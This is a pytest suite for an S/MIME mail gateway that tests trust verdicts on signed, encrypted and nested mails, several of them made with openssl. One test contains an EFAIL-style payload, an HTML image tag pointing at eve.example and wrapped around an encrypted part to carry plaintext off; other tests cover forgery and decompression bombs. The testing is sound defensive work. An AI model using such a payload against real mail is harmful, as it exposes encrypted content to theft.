"""Mails opened and judged as a whole. Truth: mails put together layer by layer, and mails made by openssl."""

import subprocess
import tempfile
from datetime import timedelta
from pathlib import Path

import pytest

from gateway.cms.algorithms import ContentCipher, WeakCipher
from gateway.errors import GatewayError, Reason
from gateway.mime.entity import Limits
from gateway.model.verdict import DecryptionVerdict, Status, Trust
from gateway.pki.judge import Judge
from gateway.pki.trust import TrustSet
from gateway.smime.layers import LAYERS_MAX, OpenLimits
from gateway.smime.open import open_cms, open_mail
from gateway.smime.protect import protect
from tests.support import forge
from tests.support.envelopes import SpyKey
from tests.support.pki import ALGORITHMS_ENCRYPT, NOW, CertificateKey, get_pki
from tests.support.sealed import (
    ANNA,
    BANK,
    TEXT,
    anna,
    box,
    cms,
    compressed,
    enveloped,
    judge,
    message,
    multipart,
    scheme_of,
    signature,
    signed,
    stamper,
)

GCM = ContentCipher.AES256_GCM


def opened(mail, *, keys=None, by=None, at=NOW, limits=None):
    return open_mail(mail, [CertificateKey(box())] if keys is None else keys, by or judge(), at,
                     **({"limits": limits} if limits else {}))


def told(mail, **options):
    verdicts = opened(mail, **options).verdicts
    return verdicts.verdict, verdicts.why


def types(verdicts):
    return [layer.type for layer in verdicts.layers]


# --- what is believed -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("entity", "layers", "order", "integrity"), [
    (lambda: signed(TEXT, anna()), ["signed"], "signed_only", None),
    (lambda: signed(TEXT, anna(), opaque=True), ["signed"], "signed_only", None),
    (lambda: enveloped(signed(TEXT, anna()), box()), ["enveloped", "signed"], "inside_encryption", "signed_inside"),
    (lambda: enveloped(signed(TEXT, anna()), box(), cipher=GCM), ["auth_enveloped", "signed"], "inside_encryption",
     "aead"),
    (lambda: signed(enveloped(signed(TEXT, anna()), box()), anna()), ["signed", "enveloped", "signed"], "both",
     "signed_inside"),
    (lambda: enveloped(compressed(signed(TEXT, anna())), box()), ["enveloped", "compressed", "signed"],
     "inside_encryption", "signed_inside"),
    (lambda: signed(signed(TEXT, anna()), anna(), opaque=True), ["signed", "signed"], "signed_only", None)])
def test_every_honest_nesting_is_trusted(entity, layers, order, integrity):
    result = opened(message(entity()))
    verdicts = result.verdicts
    assert (verdicts.verdict, verdicts.why) == (Trust.TRUSTED, ())
    assert types(verdicts) == [*layers, "plain"]
    assert verdicts.signature.order == order
    assert verdicts.signature.covers == "whole"
    assert verdicts.decryption.integrity == integrity
    assert result.signed is not None
    assert result.signed.octets == TEXT
    assert result.octets.endswith(TEXT.partition(b"\r\n\r\n")[2])
    assert result.octets.startswith(b"From: Anna <anna@customer.example>\r\n")


@pytest.mark.parametrize("algorithm", ALGORITHMS_ENCRYPT)
@pytest.mark.parametrize("cipher", [ContentCipher.AES128_CBC, ContentCipher.AES256_CBC, ContentCipher.AES128_GCM, GCM])
def test_every_key_and_cipher(algorithm, cipher):
    mail = message(enveloped(signed(TEXT, anna()), box(algorithm), cipher=cipher))
    assert told(mail, keys=[CertificateKey(box(algorithm))]) == (Trust.TRUSTED, ())


def test_a_stamp_moves_the_judgement_to_its_own_time():
    at = NOW - timedelta(days=3)
    signer = opened(message(signed(TEXT, anna(), stamp=stamper(at)))).verdicts.signature.signers[0]
    assert signer.timestamp.status is Status.VALID
    assert signer.judged_at == at + timedelta(seconds=1)


# --- what is not ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("mail", "verdict", "why"), [
    (lambda: message(TEXT), Trust.UNKNOWN, [Reason.SIGNATURE_NOT_SIGNED]),
    (lambda: message(signed(TEXT, anna())).replace(b"100 EUR", b"900 EUR"), Trust.NOT_TRUSTED,
     [Reason.SIGNATURE_ALTERED]),
    (lambda: message(signed(TEXT, anna()), from_="boss@bank.example"), Trust.NOT_TRUSTED, [Reason.FROM_MISMATCH]),
    (lambda: message(signed(TEXT, anna()), from_=None), Trust.UNKNOWN, [Reason.FROM_MISSING]),
    (lambda: message(signed(TEXT, anna()), extra=[b"From: Bert <bert@customer.example>"]), Trust.UNKNOWN,
     [Reason.FROM_AMBIGUOUS]),
    (lambda: message(signed(TEXT, anna()), from_="anna@customer.example>, <bert@customer.example"), Trust.UNKNOWN,
     [Reason.FROM_AMBIGUOUS]),
    (lambda: message(signed(TEXT, anna()), from_="bert@customer.example",
                     extra=[b"Sender: anna@customer.example", b"Reply-To: anna@customer.example"]),
     Trust.NOT_TRUSTED, [Reason.FROM_MISMATCH]),
    (lambda: message(enveloped(TEXT, box())), Trust.UNKNOWN,
     [Reason.SIGNATURE_NOT_SIGNED, Reason.DECRYPTION_NOT_AUTHENTICATED]),
    (lambda: message(enveloped(TEXT, box(), cipher=GCM)), Trust.UNKNOWN, [Reason.SIGNATURE_NOT_SIGNED]),
    (lambda: message(signed(enveloped(TEXT, box()), anna())), Trust.UNKNOWN,
     [Reason.SIGNATURE_OUTSIDE_ENCRYPTION, Reason.DECRYPTION_NOT_AUTHENTICATED]),
    (lambda: message(enveloped(signed(TEXT, anna()), get_pki().recipient("p-256", email="else@x.example"))),
     Trust.UNKNOWN, [Reason.SIGNATURE_NOT_SIGNED, Reason.DECRYPTION_NO_KEY])])
def test_what_stands_against_it(mail, verdict, why):
    result = opened(mail())
    assert (result.verdicts.verdict, list(result.verdicts.why)) == (verdict, why)
    assert result.signed is None or why in ([Reason.FROM_MISMATCH], [Reason.FROM_MISSING], [Reason.FROM_AMBIGUOUS])
    if result.signed is not None:
        assert not any(signer.matches_from for signer in result.signed.signers)


@pytest.mark.parametrize("from_", ["anna@m\u00fcller.example", "Anna@M\u00dcLLER.example"])
def test_the_spelling_of_the_domain_does_not_matter(from_):
    """RFC 5280 7.5: a certificate has A-labels, mail programs write letters."""
    signer = get_pki().signer("p-256", email="anna@xn--mller-kva.example")
    assert told(message(signed(TEXT, signer), from_=from_)) == (Trust.TRUSTED, ())
    assert told(message(signed(TEXT, signer), from_="anna@muller.example"))[0] is Trust.NOT_TRUSTED


def test_case_of_the_address_does_not_matter():
    assert told(message(signed(TEXT, anna()), from_="ANNA@Customer.EXAMPLE")) == (Trust.TRUSTED, ())
    kelvin = get_pki().signer("p-256", email="k@customer.example")
    assert told(message(signed(TEXT, kelvin), from_="\N{KELVIN SIGN}@customer.example"))[0] is Trust.NOT_TRUSTED


def test_without_roots_nothing_is_decided():
    assert told(message(signed(TEXT, anna())), by=Judge(TrustSet())) == (
        Trust.UNKNOWN, (Reason.PATH_TRUST_ANCHOR_MISSING,))


def test_a_key_that_cannot_be_reached_is_for_later():
    class Away:
        certificate = box().certificate

        def agree(self, peer):
            raise GatewayError(Reason.KEY_UNAVAILABLE, "the HSM is away", retry=True)

    with pytest.raises(GatewayError) as caught:
        opened(message(enveloped(TEXT, box())), keys=[Away()])
    assert caught.value.retry


# --- whole and part -------------------------------------------------------------------------------------------------


def mixed(*parts):
    lines = b"".join(b"--mixed\r\n" + part + b"\r\n" for part in parts)
    return b'Content-Type: multipart/mixed; boundary="mixed"\r\n\r\n' + lines + b"--mixed--\r\n"


def test_a_signature_beside_other_parts_covers_a_part():
    mail = message(mixed(signed(TEXT, anna()), b"Content-Type: text/plain\r\n\r\nlist footer\r\n"))
    result = opened(mail)
    assert (result.verdicts.verdict, result.verdicts.why) == (Trust.UNKNOWN, (Reason.SIGNATURE_PART_ONLY,))
    assert result.verdicts.signature.status is Status.VALID
    assert result.verdicts.signature.covers == "part"
    assert result.signed is None
    assert result.octets is mail


def test_a_false_signature_of_a_part_is_told_as_false():
    mail = message(mixed(signed(TEXT, anna()).replace(b"100", b"900"), b"\r\nfooter\r\n"))
    assert told(mail) == (Trust.NOT_TRUSTED, (Reason.SIGNATURE_ALTERED, Reason.SIGNATURE_PART_ONLY))


def test_an_encrypted_part_is_never_decrypted():
    """EFAIL: what stands beside it could carry the plaintext away."""
    mail = message(mixed(b'Content-Type: text/html\r\n\r\n<img src="http://eve.example/?', enveloped(TEXT, box()),
                         b'Content-Type: text/html\r\n\r\n">'))
    calls = []

    class Watched(CertificateKey):
        def agree(self, peer_public):
            calls.append(peer_public)
            return super().agree(peer_public)

    result = opened(mail, keys=[Watched(box())])
    assert not calls
    assert result.octets is mail
    decryption = result.verdicts.decryption
    assert (decryption.status, decryption.reason, decryption.covers) == ("failed", Reason.DECRYPTION_PART_ONLY, "part")
    assert b"100 EUR" not in result.payload


@pytest.mark.parametrize(("part", "status", "reason"), [
    (lambda: signed(TEXT, anna(), opaque=True), "not_encrypted", None),
    (lambda: cms(b"0\x80\x06\x09*\x86H\x86\xf7\x0d\x01\x07\x03broken", "enveloped-data"), "failed",
     Reason.DECRYPTION_PART_ONLY),
    (lambda: compressed(TEXT), "not_encrypted", None), (lambda: cms(b"junk", "signed-data"), "not_encrypted", None)])
def test_cms_objects_of_any_kind_beside_other_parts(part, status, reason):
    mail = message(mixed(b"Content-Type: text/plain\r\n\r\nhello\r\n", part()))
    result = opened(mail)
    assert (result.verdicts.decryption.status, result.verdicts.decryption.reason) == (status, reason)
    assert result.verdicts.verdict is Trust.UNKNOWN
    assert result.octets is mail


def test_whoever_signs_the_whole_may_attach_what_she_wants():
    """Sealed attachments of a signed whole are neither opened nor asked about; nothing stands against the whole."""
    entity = mixed(b"Content-Type: text/plain\r\n\r\nsee attachments\r\n", enveloped(TEXT, box()),
                   signed(TEXT, anna()).replace(b"100", b"900"))
    result = opened(message(signed(entity, anna())))
    assert (result.verdicts.verdict, result.verdicts.why) == (Trust.TRUSTED, ())
    assert result.signed.octets == entity
    assert b"100 EUR" not in result.octets


def test_a_forwarded_message_speaks_for_nobody_here():
    inner = message(signed(TEXT, anna()))
    mail = message(mixed(b"Content-Type: text/plain\r\n\r\nsee below\r\n",
                         b"Content-Type: message/rfc822\r\n\r\n" + inner))
    assert told(mail) == (Trust.UNKNOWN, (Reason.SIGNATURE_NOT_SIGNED,))


def test_preamble_and_epilogue_reach_nobody():
    entity = signed(TEXT, anna())
    around = entity.replace(b"This is an S/MIME signed message", b"Pay 900 EUR instead")
    mail = message(around + b"Pay 901 EUR instead\r\n")
    result = opened(mail)
    assert result.verdicts.verdict is Trust.TRUSTED
    assert b"instead" not in result.octets
    assert b"instead" not in result.signed.octets


def test_a_multipart_signed_of_three_parts_is_a_forgery():
    entity = signed(TEXT, anna())
    boundary = entity.partition(b'boundary="')[2].partition(b'"')[0]
    third = b"--" + boundary + b"\r\nContent-Type: text/plain\r\n\r\nPay 900\r\n--" + boundary + b"--\r\n"
    mail = message(entity.replace(b"--" + boundary + b"--\r\n", third))
    assert told(mail) == (Trust.NOT_TRUSTED, (Reason.SIGNATURE_MALFORMED,))


def test_a_content_inside_multipart_signed_is_invalid():
    """Two contents, one shown and one signed (RFC 8551 3.5.3)."""
    der = signature(TEXT, anna(), opaque=True)
    assert told(message(multipart(TEXT, der))) == (Trust.NOT_TRUSTED, (Reason.SIGNATURE_MALFORMED,))


# --- however it is labelled, and when it is broken ------------------------------------------------------------------


@pytest.mark.parametrize(("old", "new"), [
    (b"application/pkcs7-mime; smime-type=signed-data", b"application/x-pkcs7-mime"),
    (b"application/pkcs7-mime; smime-type=signed-data", b"application/octet-stream"),
    (b"smime-type=signed-data", b"smime-type=enveloped-data"),
    (b"smime-type=signed-data", b"smime-type=certs-only")])
def test_labels_decide_nothing(old, new):
    entity = signed(TEXT, anna(), opaque=True)
    assert old in entity
    assert told(message(entity.replace(old, new))) == (Trust.TRUSTED, ())


@pytest.mark.parametrize(("label", "status", "reason"), [
    ("enveloped-data", "failed", Reason.DECRYPTION_FAILED), ("authEnveloped-data", "failed", Reason.DECRYPTION_FAILED)])
@pytest.mark.parametrize("junk", [b"", b"0", b"0\x80", b"0\x03\x02\x01\x05", bytes(40)])
def test_broken_envelopes_are_one_failure(label, status, reason, junk):
    result = opened(message(cms(junk, label)))
    assert (result.verdicts.decryption.status, result.verdicts.decryption.reason) == (status, reason)
    assert result.verdicts.verdict is Trust.UNKNOWN
    assert result.octets is result.original


@pytest.mark.parametrize("junk", [b"", b"0", b"0\x80", b"0\x03\x02\x01\x05", bytes(40)])
def test_broken_signatures_are_malformed_and_the_content_is_still_there(junk):
    assert told(message(cms(junk, "signed-data"))) == (Trust.NOT_TRUSTED, (Reason.SIGNATURE_MALFORMED,))
    result = opened(message(multipart(TEXT, junk)))
    assert (result.verdicts.verdict, result.verdicts.why) == (Trust.NOT_TRUSTED, (Reason.SIGNATURE_MALFORMED,))
    assert b"100 EUR" in result.octets


def test_certificates_only_are_no_signature():
    der = forge.signed_data([], content=None, certificates=[anna().der])
    assert told(message(cms(der, "certs-only"))) == (Trust.UNKNOWN, (Reason.SIGNATURE_NOT_SIGNED,))


def test_truncated_anywhere_it_is_answered():
    mail = message(enveloped(signed(TEXT, anna()), box()))
    for end in range(0, len(mail), 97):
        assert opened(mail[:end]).verdicts.verdict is not Trust.TRUSTED


# --- bounds ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("count", "trust"), [(LAYERS_MAX, Trust.TRUSTED), (LAYERS_MAX + 1, Trust.UNKNOWN)])
def test_eight_layers_at_most(count, trust):
    entity = TEXT
    for _ in range(count - 1):
        entity = compressed(entity)
    verdict, why = told(message(signed(entity, anna())))
    assert verdict is trust
    assert (Reason.INPUT_LIMIT_EXCEEDED in why) is (trust is Trust.UNKNOWN)


@pytest.mark.parametrize(("count", "why"), [(8, ()), (9, (Reason.INPUT_LIMIT_EXCEEDED,))])
def test_eight_signers_at_most(count, why):
    infos = [forge.signer_info(anna(), scheme_of(anna()), TEXT)] * count
    der = forge.signed_data(infos, content=None, certificates=[anna().der, *anna().chain_der])
    assert told(message(multipart(TEXT, der)))[1] == why


def test_compressed_content_is_bounded():
    bomb = compressed(b"Content-Type: text/plain\r\n\r\n" + bytes(30_000_000))
    assert told(message(bomb)) == (Trust.UNKNOWN, (Reason.SIGNATURE_NOT_SIGNED, Reason.INPUT_LIMIT_EXCEEDED))
    small = compressed(TEXT)
    assert told(message(small), limits=OpenLimits(octets_max=len(TEXT)))[1] == (Reason.SIGNATURE_NOT_SIGNED,)
    assert told(message(small), limits=OpenLimits(octets_max=len(TEXT) - 1))[1][-1] is Reason.INPUT_LIMIT_EXCEEDED


def test_bounds_inside_an_encryption_are_told_not_raised():
    """Outside they are refused before anything is decrypted; inside, an error would tell a stranger something."""
    lines = [b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(30)]
    deep = b"".join(lines) + TEXT
    limits = OpenLimits(mime=Limits(depth_max=10))
    result = opened(message(enveloped(deep, box())), limits=limits)
    assert result.verdicts.decryption.status == "decrypted"
    assert Reason.INPUT_LIMIT_EXCEEDED in result.verdicts.why
    assert result.octets is result.original
    with pytest.raises(GatewayError):
        opened(message(deep), limits=limits)


# --- what is shown --------------------------------------------------------------------------------------------------


def test_fields_inside_that_are_nobodys_stay_inside():
    entity = b"From: boss@bank.example\r\nSealgate-Signature: trusted\r\nX-Spam: no\r\n" + TEXT
    result = opened(message(signed(entity, anna())))
    for name in (b"boss@bank", b"Sealgate", b"X-Spam"):
        assert name not in result.octets
    assert result.verdicts.headers.from_ == "Anna <anna@customer.example>"
    assert not result.verdicts.headers.protected
    assert result.signed.octets == entity


def test_what_was_encrypted_is_made_carriable():
    for body in (b"one\ntwo\n", b"nul \0 here\r\n", b"\rlone\r\n", b"\xff\xfe\r\n", b"x" * 2000 + b"\r\n"):
        entity = b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + body
        octets = opened(message(enveloped(entity, box()))).octets
        assert b"\0" not in octets
        assert octets.count(b"\n") == octets.count(b"\r\n") == octets.count(b"\r")
        assert max(map(len, octets.split(b"\r\n"))) <= 998


def test_what_is_no_sound_mime_is_made_readable_at_least():
    entity = b"Content-Type: text/plain\r\nContent-Transfer-Encoding: x-unknown\r\n\r\none\n\0two\rthree\r\n"
    octets = opened(message(enveloped(entity, box()))).octets
    assert octets.endswith(b"\r\n\r\none\r\ntwo\r\nthree\r\n")


def test_an_unsealed_mail_is_the_very_same_object():
    mail = message(TEXT)
    result = opened(mail)
    assert result.octets is mail
    assert not result.changed


# --- a CMS object by itself -----------------------------------------------------------------------------------------


def test_a_cms_object_claims_no_sender():
    keys = [CertificateKey(box())]
    result = open_cms(signature(TEXT, anna(), opaque=True), keys, judge(), NOW)
    assert (result.verdicts.verdict, result.octets) == (Trust.TRUSTED, TEXT)
    der = signature(TEXT, anna())
    assert open_cms(der, keys, judge(), NOW, content=TEXT).verdicts.verdict is Trust.TRUSTED
    assert open_cms(der, keys, judge(), NOW, content=TEXT + b"x").verdicts.verdict is Trust.NOT_TRUSTED
    missing = open_cms(der, keys, judge(), NOW).verdicts
    assert (missing.verdict, missing.why) == (Trust.UNKNOWN, (Reason.SIGNATURE_CONTENT_MISSING,))


# --- made by openssl ------------------------------------------------------------------------------------------------


def openssl(*arguments, octets=None):
    done = subprocess.run(["openssl", "cms", *map(str, arguments)], input=octets, capture_output=True, check=True)
    return done.stdout


@pytest.mark.parametrize("algorithm", ["rsa-2048", "p-256", "p-384", "ed25519"])
@pytest.mark.parametrize("form", [[], ["-nodetach"], ["-nodetach", "-stream"], ["-crlfeol"], ["-keyid"]])
def test_mails_signed_by_openssl(tmp_path, algorithm, form):
    person = anna(algorithm)
    certificate, key, chain = person.write(tmp_path)
    (tmp_path / "in").write_bytes(TEXT)
    if algorithm == "ed25519":
        form = [*form, "-md", "sha512"]
    mail = openssl("-sign", "-in", tmp_path / "in", "-signer", certificate, "-inkey", key, "-certfile", chain, *form,
                   "-from", ANNA, "-to", BANK, "-subject", "x")
    assert told(mail) == (Trust.TRUSTED, ())


@pytest.mark.parametrize("algorithm", ["rsa-2048", "p-256", "p-521"])  # openssl 3.5 does not write X25519 envelopes
@pytest.mark.parametrize("form", [["-aes128"], ["-aes256", "-stream"], ["-aes-256-gcm"], ["-aes256", "-keyid"]])
def test_mails_encrypted_by_openssl(tmp_path, algorithm, form):
    certificate, _, _ = box(algorithm).write(tmp_path)
    mail = openssl("-encrypt", *form, "-from", ANNA, "-to", BANK, "-subject", "x", certificate,
                   octets=signed(TEXT, anna()))
    assert told(mail, keys=[CertificateKey(box(algorithm))]) == (Trust.TRUSTED, ())


def test_weak_content_ciphers_of_openssl_are_one_failure_too(tmp_path):
    certificate, _, _ = box("rsa-2048").write(tmp_path)
    mail = openssl("-encrypt", "-des3", "-from", ANNA, "-to", BANK, "-subject", "x", certificate, octets=TEXT)
    result = opened(mail, keys=[CertificateKey(box("rsa-2048"))])
    assert (result.verdicts.decryption.status, result.verdicts.decryption.reason) == (
        "failed", Reason.DECRYPTION_FAILED)


# --- line ends --------------------------------------------------------------------------------------------------------


def lf(octets):
    return octets.replace(b"\r\n", b"\n")


@pytest.mark.parametrize("line_end", [lf, lambda octets: octets.replace(b"EUR.\r\n", b"EUR.\n"), bytes])
@pytest.mark.parametrize("cipher", [ContentCipher.AES256_CBC, GCM])
def test_line_ends_inside_an_encryption_that_are_not_those_that_were_signed(line_end, cipher):
    """RFC 8551 3.1.1: what is signed has CRLF. The proof value and the reader get the octets that verified."""
    entity = line_end(signed(TEXT, anna()))
    found = opened(message(enveloped(entity, box(), cipher=cipher)))
    assert (found.verdicts.verdict, found.verdicts.why) == (Trust.TRUSTED, ())
    assert found.signed.octets == found.payload == TEXT
    assert found.octets.endswith(TEXT.partition(b"\r\n\r\n")[2])


def test_content_that_was_signed_with_lf_is_kept_as_it_is():
    content = lf(TEXT)
    found = opened(message(enveloped(multipart(content, signature(content, anna())), box())))
    assert found.verdicts.verdict is Trust.TRUSTED
    assert found.signed.octets == content


@pytest.mark.parametrize("changed", [
    lf(TEXT).replace(b"100", b"900"), TEXT.replace(b"\r\n", b"\r"), TEXT.replace(b"\r\n", b"\r\r\n"), lf(TEXT) + b"\n"])
def test_other_changes_stay_altered(changed):
    entity = multipart(changed, signature(TEXT, anna()))
    assert told(message(enveloped(entity, box())))[1][0] is Reason.SIGNATURE_ALTERED


def test_openssl_signs_and_encrypts_its_lf_output(tmp_path):
    """`openssl cms -sign` writes LF on this system, and `-encrypt -binary` encrypts that as it is."""
    crt, secret, chain = anna().write(tmp_path)
    recipient = box().write(tmp_path)[0]
    text = tmp_path / "text"
    text.write_bytes(lf(TEXT))
    entity = subprocess.run(["openssl", "cms", "-sign", "-in", text, "-signer", crt, "-inkey", secret,
                             "-certfile", chain], check=True, capture_output=True).stdout
    assert b"\r\n" not in entity.partition(b"pkcs7-signature")[0]
    sealed = subprocess.run(["openssl", "cms", "-encrypt", "-binary", "-aes256", "-outform", "DER",
                             "-recip", recipient], input=entity, check=True, capture_output=True).stdout
    found = opened(message(cms(sealed, "enveloped-data")))
    assert (found.verdicts.verdict, found.verdicts.why) == (Trust.TRUSTED, ())
    assert b"\n" not in found.signed.octets.replace(b"\r\n", b"")


# --- weak ciphers -----------------------------------------------------------------------------------------------------


RSA_BOX = box("rsa-2048")


def triple_des(content):
    """By openssl, for the bank's mailbox."""
    with tempfile.TemporaryDirectory() as home:
        recipient = RSA_BOX.write(Path(home))[0]
        return cms(subprocess.run(["openssl", "cms", "-encrypt", "-binary", "-des3", "-outform", "DER", recipient],
                                  input=content, check=True, capture_output=True).stdout, "enveloped-data")


WEAK = OpenLimits(weak=frozenset({WeakCipher.TRIPLE_DES}))


@pytest.mark.parametrize("around", [lambda entity: entity, lambda entity: enveloped(entity, RSA_BOX, cipher=GCM)])
def test_weak_cipher_is_opened_where_the_settings_say_so_and_never_trusted(around):
    """RFC 8551 2.7. A good signature inside does not help, nor does a good cipher outside."""
    mail = message(around(triple_des(signed(TEXT, anna()))))
    found = opened(mail, keys=[CertificateKey(RSA_BOX)], limits=WEAK)
    assert found.payload == TEXT
    assert (found.verdicts.verdict, found.verdicts.why) == (Trust.UNKNOWN, (Reason.DECRYPTION_WEAK_ALGORITHM,))
    assert found.signed is None
    assert found.verdicts.weak_ciphers == ("3des-cbc",)


def test_good_cipher_inside_a_weak_one_does_not_hide_it():
    found = opened(message(triple_des(enveloped(signed(TEXT, anna()), RSA_BOX, cipher=GCM))),
                   keys=[CertificateKey(RSA_BOX)], limits=WEAK)
    assert (found.verdicts.verdict, found.verdicts.why) == (Trust.UNKNOWN, (Reason.DECRYPTION_WEAK_ALGORITHM,))
    assert found.signed is None


def test_weak_cipher_is_refused_before_a_key_is_used():
    """No oracle: the answer is the one of all failures, and what is named can be read by everyone."""
    key = SpyKey(RSA_BOX)
    found = opened(message(triple_des(TEXT)), keys=[key])
    assert found.verdicts.decryption == DecryptionVerdict("failed", Reason.DECRYPTION_FAILED, "whole")
    assert found.verdicts.weak_ciphers == ("3des-cbc",)
    assert key.asked == []


def resealed(person, *, inner=None, encrypt=True, more=b""):
    """A mail that a person has signed, sealed once more by a gateway with its header fields protected (RFC 9788)."""
    mail = message(inner or signed(TEXT, anna()), subject="Contract", extra=(more,) if more else ())
    parts = protect(mail, encrypt=encrypt, legacy_display=True)
    entity = signed(parts.payload, person) if person else parts.payload
    return parts.outer + b"MIME-Version: 1.0\r\n" + (enveloped(entity, box()) if encrypt else entity)


@pytest.mark.parametrize("inner", [None, lambda: signed(TEXT, anna(), opaque=True)])
def test_fields_protected_by_a_layer_between_are_shown(inner):
    """Truth: RFC 9788 4: the reader sees the fields inside, whatever layers are inside of them."""
    octets = resealed(anna(), inner=inner and inner())
    assert b"Contract" not in octets
    opened = open_mail(octets, [CertificateKey(box())], judge(), NOW)
    assert (opened.verdicts.verdict, opened.verdicts.headers.subject) == (Trust.TRUSTED, "Contract")
    assert b"\r\nSubject: Contract\r\n" in opened.octets
    assert b"[...]" not in opened.octets
    assert b"Please transfer 100 EUR." in opened.octets
    assert opened.verdicts.coverage.headers == "protected", "the same From has signed them as well"


def test_fields_between_with_lf_line_ends():
    parts = protect(message(signed(TEXT, anna()), subject="Contract"), encrypt=True)
    header, _, body = parts.payload.partition(b"\r\n\r\n")
    inside = header.replace(b"\r\n", b"\n") + b"\n\n" + body
    octets = parts.outer + b"MIME-Version: 1.0\r\n" + enveloped(inside, box())
    assert open_mail(octets, [CertificateKey(box())], judge(), NOW).verdicts.headers.subject == "Contract"


def test_protected_fields_further_in_go_before_those_between():
    own = protect(message(TEXT, subject="My own"), encrypt=False).payload
    opened = open_mail(resealed(anna(), inner=signed(own, anna())), [CertificateKey(box())], judge(), NOW)
    assert opened.verdicts.headers.subject == "My own"


@pytest.mark.parametrize("person", [None, "eve@customer.example"])
def test_fields_between_that_the_from_did_not_sign_are_shown_as_unprotected(person):
    """Attack: Anna's signed mail in an envelope of Eve's, with fields of Eve's choice inside it."""
    octets = resealed(person and anna(email=person), more=b"Reply-To: eve@customer.example")
    opened = open_mail(octets, [CertificateKey(box())], judge(), NOW)
    assert opened.verdicts.headers.subject == "Contract"
    assert (opened.verdicts.coverage.headers, opened.verdicts.coverage.stray_reply_to) == ("unprotected", True)
    forged = octets.replace(b"From: Anna <anna@", b"From: Eve <eve@", 1)
    other = open_mail(forged, [CertificateKey(box())], judge(), NOW)
    assert other.verdicts.verdict is Trust.NOT_TRUSTED


def test_fields_between_are_bounded():
    inner = b"X-A: b\r\n" * 3_000 + b'hp=: "hp=cipher"\r\n' + signed(TEXT, anna())
    octets = message(enveloped(signed(inner, anna()), box()))
    assert open_mail(octets, [CertificateKey(box())], judge(), NOW).verdicts.headers.subject == "Order"
